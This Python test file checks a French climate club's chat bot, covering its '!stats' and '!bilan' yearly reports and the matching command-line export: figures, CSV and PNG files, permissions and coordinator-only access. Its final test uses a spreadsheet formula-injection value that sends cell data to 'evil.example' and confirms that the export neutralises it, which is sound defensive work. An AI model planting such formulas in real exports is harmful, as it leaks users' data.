"""``!stats``, ``!bilan`` and ``cct-bot export bilan`` on a seeded year: exact figures, CSV
readable by the csv module, a valid PNG, the same files from the chat and the command line."""

from __future__ import annotations

import csv
import io
import stat
import struct
from dataclasses import replace
from pathlib import Path

from bot.cli import export_to
from commands import build_registry
from commands.exports import ExportRun
from commands.i18n import Translator
from commands.reports.figures import yearly_figures
from tests.handlers.conftest import COORDINATOR, Harness
from tests.handlers.conftest import both_db as db  # noqa: F401  (SQLite and PostgreSQL)
from tests.handlers.seed_year import EXPECTED, PARIS, YEAR, seed

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == PNG_SIGNATURE
    assert data[12:16] == b"IHDR"
    width, height = struct.unpack(">II", data[16:24])
    assert data[-8:-4] == b"IEND"
    return width, height


async def export_bilan(bot: Harness, year: int, directory: Path, club_name: str) -> list[Path]:
    """``cct-bot export bilan``'s files, written as the command line writes them."""
    [bilan] = [export for export in build_registry().exports if export.name == "bilan"]
    club = replace(bot.dispatcher.club, name=club_name, timezone=str(PARIS))
    return await export_to(bot.db, bilan, ExportRun(club, Translator("fr"), bot.clock.now(),
                                                    "all", year), directory)


async def test_the_figures_of_a_seeded_year_are_exact(bot: Harness) -> None:
    await seed(bot.db)
    async with bot.db.transaction() as repos:
        figures = await yearly_figures(repos, YEAR, PARIS)
        quick = await yearly_figures(repos, YEAR, PARIS, detailed=False)  # what !stats reads
    assert quick == replace(figures, cumulative=(), groups=())
    for name, value in EXPECTED.items():
        assert getattr(figures, name) == value, name
    assert [m.attendance for m in figures.meetings] == [45, 60, 0, 10]
    assert [m.rsvps for m in figures.meetings] == [0, 0, 0, 5]
    assert [g.members for g in figures.groups] == [21, 10, 0]
    assert len(figures.cumulative) == 12
    assert figures.cumulative[-1] == 201  # everyone by the end of December (with 2025's)
    assert figures.cumulative[0] == 1 + 13  # @old, then p000, p012 … p144 touched in January
    assert list(figures.cumulative) == sorted(figures.cumulative)


async def test_a_rencontres_attendance_counts_its_guests_and_headcounts(bot: Harness) -> None:
    await seed(bot.db)
    async with bot.db.transaction() as repos:
        first = (await yearly_figures(repos, YEAR, PARIS)).meetings[0]
        await repos.attendance.set_headcount(first.id, "nord", {"elus": 8, "habitants": 14},
                                             first.starts_at)
        await repos.attendance.add_guests(first.id, [("Jeanne M.", "habitants", "nord")],
                                          first.starts_at)
    async with bot.db.transaction() as repos:
        figures = await yearly_figures(repos, YEAR, PARIS)
    assert [m.attendance for m in figures.meetings] == [45 + 22 + 1, 60, 0, 10]


async def test_stats_for_coordinators(bot: Harness) -> None:
    await seed(bot.db)
    reply = await bot.reply_to(f"!stats {YEAR}", sender=COORDINATOR)
    assert "Participants : 200 cette année, 201 au total (200 nouveaux)" in reply
    assert "3 tenues, 115 présences, 85 personnes venues au moins une fois" in reply
    assert "Par territoire : nord 60, sud 40, non renseigné 100" in reply
    assert "Par catégorie : élu·e 10, habitant·e 30, non renseigné 160" in reply
    assert "Groupes-projets actifs : 2 (en cours 1, idée 1)" in reply
    assert "ordre du jour : 3 (2 retenues)" in reply
    assert "Remontées aux élus : 2 (1 avec réponse)" in reply


async def test_stats_and_bilan_are_for_coordinators_only(bot: Harness) -> None:
    for command in ("!stats", "!bilan 2026"):
        reply = await bot.reply_to(command)
        assert "coordin" in reply.lower(), reply


async def test_bilan_rejects_a_future_year(bot: Harness) -> None:
    reply = await bot.reply_to("!bilan 3000", sender=COORDINATOR)
    assert "La période doit commencer entre le 1er janvier 2000 et aujourd'hui" in reply
    assert "pas le 3000-01-01" in reply


async def test_bilan_uploads_the_report_and_the_cli_writes_the_same(bot: Harness,
                                                                    tmp_path: Path) -> None:
    await seed(bot.db)
    sent = await bot.command(f"!bilan {YEAR}", sender=COORDINATOR)
    summary, *files = sent
    assert "- Participants (membres du club) : 200" in summary.content["body"]
    assert "6 fichiers du bilan" in summary.content["body"]
    uploaded = {s.content["body"]: data for s, (data, _mime, _name) in
                zip(files, bot.transport.uploads, strict=True)}
    assert sorted(uploaded) == sorted([f"bilan-{YEAR}.md", f"bilan-{YEAR}.html",
                                       f"bilan-{YEAR}-indicateurs.csv",
                                       f"bilan-{YEAR}-rencontres.csv", f"bilan-{YEAR}-groupes.csv",
                                       f"bilan-{YEAR}-graphique.png"])
    assert all(s.content["msgtype"] == "m.file" for s in files)

    indicators = list(csv.DictReader(io.StringIO(uploaded[f"bilan-{YEAR}-indicateurs.csv"]
                                                 .decode())))
    plain = {row["indicator"]: int(row["value"]) for row in indicators if not row["key"]}
    for name in ("participants_year", "participants_total", "new_participants", "meetings_held",
                 "attendance_total", "active_groups"):
        assert plain[name] == EXPECTED[name], name
    assert plain["attended_at_least_once"] == EXPECTED["attended"]
    territory = {row["key"]: int(row["value"]) for row in indicators
                 if row["indicator"] == "participants_by_territory"}
    assert territory == EXPECTED["by_territory"]
    meetings = list(csv.DictReader(io.StringIO(uploaded[f"bilan-{YEAR}-rencontres.csv"].decode())))
    assert [int(m["attendance"]) for m in meetings] == [45, 60, 0, 10]
    assert [m["status"] for m in meetings] == ["tenue", "tenue", "annulee", "tenue"]
    groups = list(csv.DictReader(io.StringIO(uploaded[f"bilan-{YEAR}-groupes.csv"].decode())))
    assert [(g["status"], int(g["members"])) for g in groups] == [("en-cours", 21), ("idee", 10),
                                                                   ("archive", 0)]
    assert png_size(uploaded[f"bilan-{YEAR}-graphique.png"]) == (800, 700)
    markdown = uploaded[f"bilan-{YEAR}.md"].decode()
    assert markdown.startswith(f"# Club Climat et Transition — bilan {YEAR}")
    assert "| 2 | 20/03/2026 18:00 | commune (nord et sud) | tenue | 45 | 0 |" in markdown
    page = uploaded[f"bilan-{YEAR}.html"].decode()
    assert page.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in page
    assert "<table>" in page and "<td>45</td>" in page and "<script" not in page

    written = await export_bilan(bot, YEAR, tmp_path / "out", "Club Climat et Transition")
    assert sorted(p.name for p in written) == sorted(uploaded)
    for path in written:
        if path.suffix != ".png":
            assert path.read_bytes() == uploaded[path.name], path.name
        else:
            assert png_size(path.read_bytes()) == (800, 700)
    # The outbox keeps the files until sent (base64): nothing else is needed to send them.
    async with bot.db.transaction() as repos:
        pending = await repos.outbox.pending()
    assert not pending


async def test_the_command_line_export(tmp_path: Path) -> None:
    import asyncio

    from bot.cli import main
    from storage.db import Database

    config = tmp_path / "config.toml"
    config.write_text('[matrix]\nhomeserver = "http://127.0.0.1:1"\nuser_id = "@b:localhost"\n'
                      'password = "x"\n[rooms]\nmain = "#cct:localhost"\n', encoding="utf-8")
    config.chmod(0o600)  # it holds a password
    (tmp_path / "data").mkdir()
    database = Database(f"sqlite+aiosqlite:///{tmp_path / 'data' / 'cct.db'}")
    await database.upgrade()
    await seed(database)
    await database.dispose()
    out = tmp_path / "bilan"
    out.mkdir()
    stale = out / f"bilan-{YEAR}.md"
    stale.write_text("ancien", encoding="utf-8")
    stale.chmod(0o644)  # a file left there, readable by all: corrected before it is written
    code = await asyncio.to_thread(main, ["export", "bilan", "--annee", str(YEAR), "--dir",
                                          str(out), "--config", str(config)])
    assert code == 0
    assert len(list(out.iterdir())) == 6
    assert {stat.S_IMODE(path.stat().st_mode) for path in out.iterdir()} == {0o600}
    assert stale.read_text(encoding="utf-8").startswith("# ")
    rows = list(csv.DictReader((out / f"bilan-{YEAR}-indicateurs.csv").open(encoding="utf-8")))
    assert {r["indicator"]: r["value"] for r in rows if not r["key"]}["participants_year"] == "200"
    assert png_size((out / f"bilan-{YEAR}-graphique.png").read_bytes()) == (800, 700)


async def test_a_formula_as_a_group_name_is_text_in_the_bilan(bot: Harness, tmp_path: Path) -> None:
    """A group named like a spreadsheet formula: the bilan's CSV (from the chat and the command
    line alike) holds it as text."""
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Voir le bilan")'
    reply = await bot.reply_to(f"!projet creer {formula}")
    assert "créé" in reply, reply
    year = bot.clock.now().year
    written = await export_bilan(bot, year, tmp_path / "out", "CCT")
    groups_csv = next(p for p in written if p.name.endswith("-groupes.csv"))
    names = [row["name"] for row in csv.DictReader(groups_csv.open(encoding="utf-8"))]
    assert names == ["'" + formula]
